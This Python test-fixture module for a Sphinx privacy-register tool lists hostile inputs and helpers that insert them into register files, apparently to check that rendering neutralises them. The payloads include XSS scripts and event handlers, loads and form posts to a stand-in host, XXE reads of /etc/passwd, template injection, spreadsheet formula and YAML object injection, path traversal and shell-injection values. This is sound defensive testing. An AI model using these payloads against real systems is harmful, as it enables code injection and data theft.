"""Hostile texts, and registers with one of them in every text.

Each would do something if it were taken for what it looks like: run `RUN`, which a browser's console
shows, ask the host `ELSEWHERE`, hide words, end the data around it, or read a file.
"""

from __future__ import annotations

import copy
from functools import reduce
from itertools import product
from operator import getitem

import yaml

from helpers.changed_fields import records_in
from sphinx_privacy.register.fields import field
from sphinx_privacy.register.text import Visible

ELSEWHERE = "elsewhere.example"
RUN = "console.error(1)"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="https://{ELSEWHERE}/a.js"></script>',
    f"<script type=module>import 'https://{ELSEWHERE}/b.js'</script>",
    f'<script>fetch("https://{ELSEWHERE}/c")</script>',
    *(
        f"{end}<script>{RUN}</script>"
        for end in ("</script>", "</style>", "</title>", "</textarea>", "</p>", "</table>", "-->")
    ),
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
]
EVENTS = {
    "img src=x": "onerror",
    "svg": "onload",
    "details open": "ontoggle",
    "body": "onload",
    "input autofocus": "onfocus",
    "select autofocus": "onfocus",
    "textarea autofocus": "onfocus",
    "video src=x": "onerror",
    "audio src=x": "onerror",
    "iframe": "onload",
    "object data=x": "onerror",
    "link rel=stylesheet href=x": "onerror",
    "style": "onload",
    "marquee": "onstart",
    "p tabindex=0 autofocus": "onfocus",
    "button autofocus": "onfocus",
    "a href=x": "onmouseover",
    "svg><animate attributeName=x dur=1s": "onbegin",
    "svg><image href=x": "onerror",
    "dialog open": "onclose",
}
HANDLERS = [f"<{tag} {event}={RUN}>" for tag, event in EVENTS.items()]
ATTRIBUTES = [
    f"{quote}{space}{event}={RUN}{rest}"
    for (quote, rest), (space, event) in product(
        [('"', ' x="'), ("'", " x='"), ('">', ""), ("'>", "")],
        [(" ", "onmouseover"), (" autofocus ", "onfocus")],
    )
]
ELEMENTS = [
    f'<iframe src="https://{ELSEWHERE}/d"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="https://{ELSEWHERE}/e"></object>',
    f'<embed src="https://{ELSEWHERE}/f">',
    f'<base href="https://{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{ELSEWHERE}/g">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    f'<link rel="stylesheet" href="https://{ELSEWHERE}/h.css">',
    f'<link rel="prefetch" href="https://{ELSEWHERE}/i">',
    "<style>body{display:none}</style>",
    f"<style>@import url(https://{ELSEWHERE}/j.css)</style>",
    f'<p style="background:url(https://{ELSEWHERE}/k)">x</p>',
    '<p style="position:fixed;inset:0">cover</p>',
    "<p hidden>hidden</p>",
    '<span class="web-only">hidden</span>',
    f'<form action="https://{ELSEWHERE}/l"><button>send</button></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    f'<img src="https://{ELSEWHERE}/m.png">',
    f'<img srcset="https://{ELSEWHERE}/n.png 1x">',
    f'<picture><source srcset="https://{ELSEWHERE}/o.png"></picture>',
    f'<video poster="https://{ELSEWHERE}/p.png"></video>',
    f'<svg><use href="https://{ELSEWHERE}/q.svg#x"/></svg>',
    f'<svg><foreignObject><iframe src="https://{ELSEWHERE}/r"></iframe></foreignObject></svg>',
    f'<a href="javascript:{RUN}">x</a>',
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<title>",
    "<frameset><frame src=x></frameset>",
    '<h1 id="cookie-table">second</h1>',
    "</body></html>",
    "<b>bold</b> <i>it</i> <u>x</u><br>y<hr>",
    "<custom-element x-y>",
    "<N@x>",
    "_ga_<container-id>",
    "a < b && c > d",
    "<3 <- -> <<>> <=",
]
COMMENTS = [
    "<!--",
    "-->",
    "<!-- hidden -->",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "<!DOCTYPE html>",
    "<?php phpinfo(); ?>",
    '<?xml-stylesheet href="x.xsl"?>',
    "]]>",
    "<![CDATA[x",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "&e;",
]
ENTITIES = [
    "&lt;script&gt;",
    "&#60;b&#62;",
    "&#x3c;img src=x&#x3E;",
    "&amp;amp;",
    "AT&T",
    "&nbsp;&NewLine;&Tab;",
    "&copy &notanentity; &#0; &#xD800;",
    "\\u003cscript\\u003e",
    "\\x3cb\\x3e",
    "%3Cscript%3E",
    "+ADw-script+AD4-",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#115;cript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java\\script:{RUN}",
    f"%6aavascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"//{ELSEWHERE}/s",
    f"\\\\{ELSEWHERE}\\t",
    f"http://{ELSEWHERE}/u",
    f"ftp://{ELSEWHERE}/v",
    f"https://shop.example@{ELSEWHERE}/w",
    "blob:x",
    "inv:x#y",
    "project:/conf.py",
    "path:/conf.py",
    "../../conf.py",
    "#nowhere",
    "index.md",
]
LINKS = [
    *(f"[x]({address})" for address in ADDRESSES),
    *(f"<{address}>" for address in ADDRESSES[:2]),
    f"![x](https://{ELSEWHERE}/x.png)",
    "![x](../../conf.py)",
    "[![x](y.png)](z)",
    f"[x](https://shop.example 'y\" onclick=\"{RUN}')",
    "[x]: javascript:1",
    "[x][y]",
    "[^1]",
    "[](https://shop.example)",
]
MARKDOWN = [
    "**x**",
    "__init__",
    "_a_ *b* ***c***",
    "`code`",
    "``two `ticks` ``",
    "a\\*b\\_c\\",
    "~~struck~~",
    "# x",
    "- x",
    "> x",
    "1. x",
    "---",
    "+++",
    "| a | b |",
    "```{raw} html",
    ":::{note}",
    "% x",
    "(x)=",
    "[x]{.y #z onclick=1}",
    "{#id}",
    "$a^2$",
    "$$",
    "H~2~O x^2^",
    "line  \nline",
    "line\\\nline",
    "two\n\nparagraphs",
    "x\n===",
    "-- --- ... 'a' \"b\"",
]
ROLES = [
    *(
        f"{{{name}}}`{target}`"
        for name, target in {
            "doc": "/nowhere",
            "ref": "nowhere",
            "any": "nowhere",
            "term": "nowhere",
            "cookie": "nowhere",
            "privacy:cookie": "nowhere",
            "fact": "no.such.fact",
            "sentence": "nowhere",
            "link": "nowhere",
            "covers": "x",
            "worth-knowing": "x",
            "raw": "<b>x</b>",
            "eval": "1",
            "download": "../../conf.py",
            "math": "a^2",
            "abbr": "GDPR (x)",
            "kbd": "x",
            "index": "x",
            "py:func": "os.system",
            "py:class": "x",
            "numref": "x",
            "program": "x",
            "confval": "x",
        }.items()
    ),
    "{cookie}`x <`",
    "{doc}`x <javascript:1>`",
    "[{doc}`/index`](https://shop.example)",
    "{{ config }}",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(x)s %s %n {0} {}",
    "|version| |release| |today|",
    ":raw-html:`<b>x</b>`",
    ":cookie:`x`",
    ".. raw:: html",
    ".. include:: /etc/passwd",
    "`x <javascript:1>`_",
    "x_ x__ _`x`",
]
TYPST = [
    '#read("/etc/passwd")',
    "#set page(fill: red)",
    '#import "x.typ": *',
    '#include "x.typ"',
    '#image("/etc/passwd")',
    '#panic("x")',
    '#eval("1")',
    "#{ 1 + 1 }",
    "#[x] ]",
    "@label-1007 <label>",
    "= x",
    "/ x: y",
    "// x",
    "/* x",
    "\\u{41}",
    "#pagebreak()",
    "$ sum $",
]
DATA = [
    "=1+1",
    f'=HYPERLINK("https://{ELSEWHERE}")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    '","',
    'x;y,"z',
    '"',
    '""',
    "'",
    "\\",
    '\\"',
    '"}',
    '","id":"x',
    '{"a": [1, null]}',
    "__proto__",
    "constructor",
    "null",
    "NaN",
    "~",
    "true",
    "<x xmlns='y'/>",
    "a: b",
    "!!python/object:os.system",
    "&anchor *alias",
]
UNSEEN = [
    "a\u202eb",
    "a\u2066b\u2069",
    "a\u200bb",
    "\ufeffa",
    "a\u2028b",
    "a\u0085b",
    "a\tb",
    "a\u00a0b",
    "a\u00adb",
    "a\u200db",
    "\u05d0\u05d1 ab",
    "e\u0301 \u00e9",
    "\u0130\u0131\ufb01",
    "\U0001f600",
    "\ufffd",
    "\ue000",
    "\u4e2d\u6587",
    "x" * 120,
]
OURS = [
    "<!-- privacy: version -->",
    "<!-- privacy: changes -->",
    "[privacy: title]",
    '<!-- privacy: head {"a": 1} -->',
    '<!-- privacy: placeholder {"kind": "versions"} -->',
    "privacy-site://index.html",
    ":history",
    "[not decided yet]",
    "not-stated",
    "%s",
]
PATHS = [
    "../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "%2e%2e/",
    "$HOME $(id)",
    "; rm -rf x | cat & y",
    "*.md ?[a]",
    "--help",
    ".hidden",
]
PAYLOADS = [
    *SCRIPTS,
    *HANDLERS,
    *ATTRIBUTES,
    *ELEMENTS,
    *COMMENTS,
    *ENTITIES,
    *LINKS,
    *MARKDOWN,
    *ROLES,
    *TYPST,
    *DATA,
    *UNSEEN,
    *OURS,
    *PATHS,
]


def places_of_texts(files):
    """Return where the texts without a form are: in which file, and by which keys and positions."""
    return [
        (name, (*place, *path))
        for name, data in files.items()
        for kind, record, place in records_in(name, data)
        for path, known in _texts(kind, record)
        if known.type is None or isinstance(known.type, Visible)
    ]


def _texts(kind, value, path=()):
    """Yield the path of each text below a value, with its field."""
    if isinstance(value, str):
        yield path, field(kind, ".".join(step for step in path if isinstance(step, str)))
        return
    for step, each in value.items() if isinstance(value, dict) else enumerate(value):
        yield from _texts(kind, each, (*path, step))


def with_texts(files, texts):
    """Return the files of a register with other texts, by their places."""
    changed = copy.deepcopy(files)
    for (name, path), text in texts.items():
        *above, last = path
        reduce(getitem, above, changed[name])[last] = text
    return changed


def on_lines(data):
    """Return the YAML of a file, each text on a line of its own, and the text on each line."""
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**9)
    return text, dict(_lines(yaml.compose(text)))


def _lines(node, path=()):
    if isinstance(node, yaml.ScalarNode):
        yield node.start_mark.line + 1, path
        return
    for position, each in enumerate(node.value):
        key, child = (each[0].value, each[1]) if isinstance(each, tuple) else (position, each)
        yield from _lines(child, (*path, key))
